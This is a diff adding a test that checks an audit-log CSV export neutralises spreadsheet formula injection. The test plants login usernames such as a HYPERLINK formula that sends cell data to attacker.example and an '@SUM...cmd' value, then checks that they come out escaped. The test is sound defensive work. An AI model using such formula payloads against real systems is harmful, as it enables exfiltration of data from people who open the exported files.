@@ -165,4 +165,24 @@ describe('security: hostile input and quotas', () => {
       expect(new Set(sweep.found.map((f: any) => f.host))).toEqual(new Set([FLOOD_HOST]));
     });
   });
+
+  describe('CSV export (item 17)', () => {
+    it('GET /api/audit?format=csv neutralises formula cells that an attacker put in the log', async () => {
+      const payload = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
+      await tg.call('POST', '/api/auth/login', { body: { username: payload, password: 'wrong-password' } });
+      await tg.call('POST', '/api/auth/login', { body: { username: '@SUM(1+1)*cmd', password: 'wrong-password' } });
+      const res = await tg.call('GET', '/api/audit?format=csv&action=auth.login-failed', { token: admin });
+      expect(res.status).toBe(200);
+      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
+      expect(res.headers.get('content-disposition')).toMatch(/attachment/);
+      const lines = res.text.trimEnd().split('\r\n');
+      expect(lines[0]).toBe('id,at,actorId,actorName,action,targetType,targetId,ip,details');
+      expect(res.text).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""open"")"`);
+      expect(res.text).toContain(",'@SUM(1+1)*cmd,");
+      // no cell of any line starts with a formula character
+      for (const line of lines.slice(1)) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+      const json = await tg.call('GET', '/api/audit?action=auth.login-failed', { token: admin });
+      expect(json.body.map((e: any) => e.actorName)).toContain(payload);
+    });
+  });
 });
